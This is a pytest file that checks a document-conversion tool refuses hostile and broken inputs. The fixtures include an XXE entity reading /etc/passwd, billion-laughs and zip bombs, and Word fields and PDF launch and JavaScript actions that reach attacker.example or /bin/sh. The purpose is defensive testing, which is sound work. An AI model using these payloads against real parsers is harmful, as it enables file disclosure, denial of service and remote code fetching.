"""Hostile and broken inputs: each gets one line naming the file and saying
what is wrong, exit status 1, no traceback; and nothing a document points to
is ever fetched, opened or run."""

from __future__ import annotations

import io
import os
import socket
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from jtreport import reading
from jtreport.cli import main
from jtreport.pluginmanager import PluginHost
from jtreport.reading import read_input

from tests.builders import build_docx, build_html, build_pdf, bundled_text, docx_with_parts

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.fixture(scope="module")
def text() -> str:
    return bundled_text()


@pytest.fixture(scope="module")
def docx_bytes(text: str) -> bytes:
    return build_docx(text)


def convert(path: Path) -> tuple[int, list[str]]:
    """Run the command on ``path``; its exit code and standard-error lines."""
    result = CliRunner().invoke(
        main, [str(path), "-f", "json", "-o", str(path.parent / "out")], catch_exceptions=False
    )
    return result.exit_code, result.stderr.strip().splitlines()


def assert_one_line_error(path: Path, message: str) -> None:
    code, lines = convert(path)
    assert code == 1, lines
    assert lines == [f"jtreport: {path}: {message}"] or (
        len(lines) == 1 and lines[0].startswith(f"jtreport: {path}: {message}")
    ), lines
    assert not (path.parent / "out").exists() or not any((path.parent / "out").iterdir())


# PDF ----------------------------------------------------------------------------


def test_truncated_pdf(tmp_path: Path, text: str) -> None:
    data = build_pdf(text)
    path = tmp_path / "truncated.pdf"
    path.write_bytes(data[: len(data) * 2 // 3])
    assert_one_line_error(path, "is not a readable PDF (damaged or truncated")


def test_encrypted_pdf(tmp_path: Path) -> None:
    from reportlab.lib.pdfencrypt import StandardEncryption
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out, encrypt=StandardEncryption("secret", ownerPassword="owner"))
    canvas.drawString(72, 760, "Both sides welcomed the signing of the Agreement.")
    canvas.save()
    path = tmp_path / "locked.pdf"
    path.write_bytes(out.getvalue())
    assert_one_line_error(path, "is encrypted; jtreport cannot read it without the password")


def test_scanned_pdf_without_text_layer(tmp_path: Path) -> None:
    from reportlab.pdfgen.canvas import Canvas

    out = io.BytesIO()
    canvas = Canvas(out)
    for _ in range(3):
        canvas.rect(60, 60, 470, 700, fill=0)
        canvas.line(80, 700, 500, 700)
        canvas.showPage()
    canvas.save()
    path = tmp_path / "scan.pdf"
    path.write_bytes(out.getvalue())
    assert_one_line_error(
        path,
        "has no text layer (a scanned document?); run OCR on it first, e.g. ocrmypdf, "
        "then try again",
    )


def test_text_file_named_pdf(tmp_path: Path) -> None:
    path = tmp_path / "statement.pdf"
    path.write_text("Joint Statement\n\n1. Both sides welcomed the signing.\n", encoding="utf-8")
    assert_one_line_error(
        path, "is not a PDF (it lacks the %PDF- signature); is it another kind of file?"
    )


def test_pdf_named_txt_is_still_a_pdf(tmp_path: Path) -> None:
    path = tmp_path / "scan.txt"
    path.write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    code, lines = convert(path)
    assert code == 1 and len(lines) == 1
    assert "binary" not in lines[0]  # the PDF reader, not the text reader, answered


# Word ---------------------------------------------------------------------------


def test_docx_that_is_not_a_zip(tmp_path: Path) -> None:
    path = tmp_path / "statement.docx"
    path.write_bytes(b"This was saved as plain text but named .docx\n" * 20)
    assert_one_line_error(path, "is not a Word document (not a zip archive)")


def test_docx_that_is_a_damaged_zip(tmp_path: Path, docx_bytes: bytes) -> None:
    path = tmp_path / "damaged.docx"
    path.write_bytes(docx_bytes[: len(docx_bytes) // 2])
    assert_one_line_error(path, "is not a Word document (a damaged zip archive")


def test_zip_that_is_not_a_word_document(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("statement.txt", "Both sides welcomed the signing.")
    path = tmp_path / "archive.docx"
    path.write_bytes(out.getvalue())
    assert_one_line_error(path, "is a zip archive but not a Word document (it has no word/ part)")


def test_password_protected_word_file(tmp_path: Path) -> None:
    path = tmp_path / "protected.docx"
    path.write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 2048)
    assert_one_line_error(path, "is a password-protected or old-style (.doc) Word document")


def test_zip_bomb_by_compression_ratio(tmp_path: Path, docx_bytes: bytes) -> None:
    bomb = docx_with_parts(docx_bytes, {"word/media/filler.bin": bytes(40 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    path = tmp_path / "bomb.docx"
    path.write_bytes(bomb)
    assert_one_line_error(path, "looks like a zip bomb (word/media/filler.bin unpacks")


def test_zip_bomb_by_declared_size(tmp_path: Path, docx_bytes: bytes) -> None:
    # a central directory that claims 3 GiB for one part
    data = bytearray(docx_bytes)
    entry = data.find(b"PK\x01\x02")
    struct.pack_into("<I", data, entry + 24, 3 * 1024**3)
    path = tmp_path / "liar.docx"
    path.write_bytes(bytes(data))
    assert_one_line_error(path, "looks like a zip bomb")


def test_zip_bomb_by_entry_count(tmp_path: Path, docx_bytes: bytes) -> None:
    parts = {f"word/media/p{n}.bin": b"" for n in range(6000)}
    path = tmp_path / "many.docx"
    path.write_bytes(docx_with_parts(docx_bytes, parts))
    assert_one_line_error(path, "looks like a zip bomb (6")


def with_document_xml(docx: bytes, edit: Callable[[str], str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        xml = archive.read("word/document.xml").decode("utf-8")
    return docx_with_parts(docx, {"word/document.xml": edit(xml).encode("utf-8")})


def test_docx_with_external_entity(tmp_path: Path, docx_bytes: bytes) -> None:
    def inject(xml: str) -> str:
        head, _, body = xml.partition("?>")
        doctype = '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        body = body.replace("Both sides welcomed", "&xxe; Both sides welcomed", 1)
        return head + "?>" + doctype + body

    path = tmp_path / "xxe.docx"
    path.write_bytes(with_document_xml(docx_bytes, inject))
    assert_one_line_error(path, "declares a DTD or XML entities in word/document.xml")


def test_docx_with_entity_expansion(tmp_path: Path, docx_bytes: bytes) -> None:
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lol">' for n in range(9)
    )
    with zipfile.ZipFile(io.BytesIO(docx_bytes)) as archive:
        styles = archive.read("word/styles.xml").decode("utf-8")
    head, _, body = styles.partition("?>")
    bomb = f"{head}?><!DOCTYPE w:styles [{laughs}]>{body.replace('Normal', '&l8;', 1)}"
    path = tmp_path / "laughs.docx"
    path.write_bytes(docx_with_parts(docx_bytes, {"word/styles.xml": bomb.encode("utf-8")}))
    assert_one_line_error(path, "declares a DTD or XML entities in word/styles.xml")


def test_docx_without_text(tmp_path: Path) -> None:
    import docx

    out = io.BytesIO()
    docx.Document().save(out)
    path = tmp_path / "empty.docx"
    path.write_bytes(out.getvalue())
    assert_one_line_error(path, "holds no text (an empty or image-only Word document)")


# HTML and size -----------------------------------------------------------------


def test_html_page_without_statement(tmp_path: Path) -> None:
    path = tmp_path / "404.html"
    path.write_bytes(
        b"<!DOCTYPE html><html><head><title>Not found</title><script>var x=1;</script></head>"
        b"<body><nav><ul><li><a href='/'>Home</a></li><li><a href='/news'>News</a></li></ul>"
        b"</nav><main><h1>Page not found</h1><p>Sorry, this page does not exist.</p></main>"
        b"<footer>Copyright 2025 Ministry of Foreign Affairs</footer></body></html>"
    )
    assert_one_line_error(path, "holds no statement text")


def test_html_with_entity_declarations(tmp_path: Path, text: str) -> None:
    page = build_html(text).replace(
        b"<!DOCTYPE html>",
        b'<!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    )
    path = tmp_path / "entities.html"
    path.write_bytes(page)
    assert_one_line_error(path, "declares XML entities (<!ENTITY>)")


def test_file_larger_than_the_limit(tmp_path: Path) -> None:
    path = tmp_path / "huge.pdf"
    with path.open("wb") as handle:
        handle.write(b"%PDF-1.4\n")
        handle.truncate(reading.MAX_INPUT_BYTES + 1)  # sparse: nothing is written
    limit = reading.MAX_INPUT_BYTES // 1048576
    assert_one_line_error(path, f"is 50.0 MiB; jtreport reads statements of at most {limit} MiB")


def test_command_exits_1_without_traceback(tmp_path: Path) -> None:
    path = tmp_path / "statement.docx"
    path.write_bytes(b"not a zip at all")
    done = subprocess.run(
        [sys.executable, "-m", "jtreport.cli", str(path), "-f", "json", "-o", str(tmp_path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1
    assert done.stderr.strip() == f"jtreport: {path}: is not a Word document (not a zip archive)"


# Nothing is fetched, opened or run ------------------------------------------------


@pytest.fixture()
def offline(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record (and refuse) every attempt to reach the network or run a program."""
    attempts: list[str] = []

    def refuse(what: str) -> Callable[..., object]:
        def call(*args: object, **kwargs: object) -> object:
            attempts.append(what)
            raise OSError(f"{what} refused by the test")

        return call

    monkeypatch.setattr(socket.socket, "connect", refuse("connect"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(subprocess, "Popen", refuse("Popen"))
    return attempts


def read_path(tmp_path: Path, name: str, data: bytes) -> list[str]:
    path = tmp_path / name
    path.write_bytes(data)
    return [b.text for b in read_input(PluginHost().readers, str(path)).result.blocks]


def test_web_page_resources_are_not_fetched(tmp_path: Path, text: str, offline: list[str]) -> None:
    texts = read_path(tmp_path, "page.html", build_html(text))
    assert len(texts) > 40
    assert offline == []


def test_word_external_links_and_fields_are_not_followed(
    tmp_path: Path, docx_bytes: bytes, offline: list[str]
) -> None:
    def add_links(xml: str) -> str:
        field = (
            '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://attacker.example/x.docx&quot;">'
            "<w:r><w:t>Text cached from an included file.</w:t></w:r></w:fldSimple></w:p>"
        )
        return xml.replace("<w:sectPr", field + "<w:sectPr", 1)

    data = with_document_xml(docx_bytes, add_links)
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns='
        '"http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    data = docx_with_parts(data, {"word/_rels/settings.xml.rels": rels.encode("utf-8")})
    texts = read_path(tmp_path, "linked.docx", data)
    assert "Text cached from an included file." in texts
    assert offline == []


def test_pdf_links_launch_actions_and_javascript_are_inert(
    tmp_path: Path, text: str, offline: list[str]
) -> None:
    from pypdf import PdfReader, PdfWriter
    from pypdf.annotations import Link
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject
    from pypdf.generic import TextStringObject as Text

    def action(kind: str, key: str, value: str) -> DictionaryObject:
        return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): Text(value)})

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(build_pdf(text))))
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="http://attacker.example/"))
    launch = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject(FloatObject(v) for v in (50, 100, 200, 130)),
            NameObject("/A"): action("/Launch", "/F", "/bin/sh"),
        }
    )
    writer.add_annotation(0, launch)
    script = action("/JavaScript", "/JS", "app.launchURL('http://attacker.example/', true);")
    writer._root_object[NameObject("/OpenAction")] = script
    out = io.BytesIO()
    writer.write(out)
    texts = read_path(tmp_path, "active.pdf", out.getvalue())
    assert any(t.startswith("39. President Emomali RAHMON") for t in texts)
    assert offline == []


# Every hostile input ends quickly and cleanly, with time and memory bounded -------
#
# The command runs in a subprocess under resource limits (address space and CPU
# seconds), so an input that made it read without bound, inflate gigabytes or
# recurse too deep fails the test by being killed or running out of memory; the
# timeout is only a safety net for a hang (a FIFO), never the measure.

MEMORY_LIMIT = 1 << 30  # bytes of address space: a whole pack needs under 600 MiB
CPU_LIMIT = 60  # seconds of CPU: each case needs a few
SAFETY_TIMEOUT = 600


def _limited() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_LIMIT, CPU_LIMIT))


def bounded(
    *args: str, cwd: Path, stdin: Any = subprocess.DEVNULL
) -> subprocess.CompletedProcess[str]:
    """Run ``jtreport ARGS`` under the limits; its completed process."""
    return subprocess.run(
        [sys.executable, "-m", "jtreport.cli", *args],
        cwd=cwd,
        stdin=stdin,
        capture_output=True,
        text=True,
        check=False,
        preexec_fn=_limited,
        timeout=SAFETY_TIMEOUT,
    )


def refused(done: subprocess.CompletedProcess[str], name: str, words: str) -> None:
    """Exit 1, one line on stderr naming the input and the problem, no traceback."""
    lines = done.stderr.strip().splitlines()
    assert done.returncode == 1, (done.returncode, done.stderr[-2000:])
    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr[-2000:]
    assert lines[0].startswith(f"jtreport: {name}: ") and words in lines[0], lines[0]


def read_model(done: subprocess.CompletedProcess[str], folder: Path) -> dict[str, Any]:
    """The JSON model a successful run wrote into ``folder``."""
    import json

    assert done.returncode == 0, (done.returncode, done.stderr[-2000:])
    assert "Traceback" not in done.stderr and "Warning" not in done.stderr, done.stderr
    (written,) = folder.glob("*.json")
    assert written.stat().st_size < 1_000_000
    model: dict[str, Any] = json.loads(written.read_text(encoding="utf-8"))
    return model


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_devices_by_name_are_refused_unread(tmp_path: Path, device: str) -> None:
    done = bounded(device, "-f", "json", "-o", str(tmp_path / "out"), cwd=tmp_path)
    refused(done, device, "is a device, not a statement file")


def test_a_fifo_nobody_writes_to_is_refused_without_hanging(tmp_path: Path) -> None:
    fifo = tmp_path / "statement.txt"
    os.mkfifo(fifo)
    done = bounded(str(fifo), "-f", "json", "-o", str(tmp_path / "out"), cwd=tmp_path)
    refused(done, str(fifo), "is a named pipe (FIFO)")


def test_endless_standard_input_is_read_up_to_the_limit(tmp_path: Path) -> None:
    with open("/dev/zero", "rb") as endless:
        done = bounded("-", "-f", "json", "-o", str(tmp_path / "out"), cwd=tmp_path, stdin=endless)
    refused(done, "-", "holds more than 50 MiB")


def test_a_statement_piped_in_is_read(tmp_path: Path) -> None:
    from jtreport.api import bundled_statement

    with bundled_statement().open("rb") as source:
        done = bounded("-", "-f", "json", "-o", str(tmp_path), cwd=tmp_path, stdin=source)
    assert len(read_model(done, tmp_path)["paragraphs"]) == 39


def test_a_49_mib_text_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    line = b"1. Both sides welcomed the progress of cooperation in the field of energy.\n"
    with path.open("wb") as handle:
        for _ in range(49 * 1024 * 1024 // len(line)):
            handle.write(line)
    done = bounded(str(path), "-f", "all", "-o", str(tmp_path / "out"), cwd=tmp_path)
    refused(done, str(path), "jtreport reads statements of at most 5,000,000 characters")


def test_list_numbers_from_ten_billion_in_roman_numerals_make_a_small_pack(
    tmp_path: Path,
) -> None:
    from tests.hostile.make_fixtures import roman_numbering_docx

    path = tmp_path / "roman.docx"
    path.write_bytes(roman_numbering_docx())
    out = tmp_path / "out"
    done = bounded(str(path), "-f", "all", "-o", str(out), "--force", cwd=tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    assert sorted(p.suffix for p in out.iterdir() if p.suffix != ".csv") == [
        ".docx", ".json", ".pdf", ".xlsx",
    ]  # fmt: skip
    model = read_model(done, out)
    assert len(model["paragraphs"]) == 40
    assert max(len(p["text"]) for p in model["paragraphs"]) < 300


def test_a_docx_whose_parts_lie_about_their_size_is_refused_early(tmp_path: Path) -> None:
    from tests.hostile.make_fixtures import lying_docx

    path = tmp_path / "lying.docx"
    path.write_bytes(lying_docx())  # a part declares 2,000 bytes and inflates to 2 GiB
    done = bounded(str(path), "-f", "json", "-o", str(tmp_path / "out"), cwd=tmp_path)
    refused(done, str(path), "word/document.xml does not unpack to what it declares")


def test_tables_nested_thousands_deep_are_read(tmp_path: Path) -> None:
    from tests.hostile.make_fixtures import FILLER, nested_tables_docx

    path = tmp_path / "nested.docx"
    path.write_bytes(nested_tables_docx(3000))
    done = bounded(str(path), "-f", "json", "-o", str(tmp_path), cwd=tmp_path)
    assert [p["text"] for p in read_model(done, tmp_path)["paragraphs"]] == [FILLER]


@pytest.mark.parametrize(
    "page",
    ["nested-1000", "nested-8000", "after-embed", "inside-form", "xhtml-served-as"],
)
def test_web_pages_keep_what_a_browser_shows(tmp_path: Path, page: str) -> None:
    from tests.hostile import make_fixtures

    build = make_fixtures.FIXTURES[f"{page}.html"]
    path = tmp_path / f"{page}.html"
    path.write_bytes(build())
    done = bounded(str(path), "-f", "json", "-o", str(tmp_path), cwd=tmp_path)
    model = read_model(done, tmp_path)
    assert [p["number"] for p in model["paragraphs"]] == list(range(1, 40))
    assert model["title"] == "Joint Statement on Cooperation"
    assert not any(w for w in model["warnings"] if "recursion" in w.lower())


def test_aes_256_pdfs_are_read_or_asked_for_their_password(tmp_path: Path) -> None:
    from tests.hostile.make_fixtures import aes_pdf

    open_pdf, locked = tmp_path / "open.pdf", tmp_path / "locked.pdf"
    open_pdf.write_bytes(aes_pdf(""))
    locked.write_bytes(aes_pdf("secret"))
    done = bounded(str(open_pdf), "-f", "json", "-o", str(tmp_path), cwd=tmp_path)
    assert [p["number"] for p in read_model(done, tmp_path)["paragraphs"]] == [1, 2, 3, 4, 5]
    done = bounded(str(locked), "-f", "json", "-o", str(tmp_path / "out"), cwd=tmp_path)
    refused(done, str(locked), "is encrypted; jtreport cannot read it without the password")
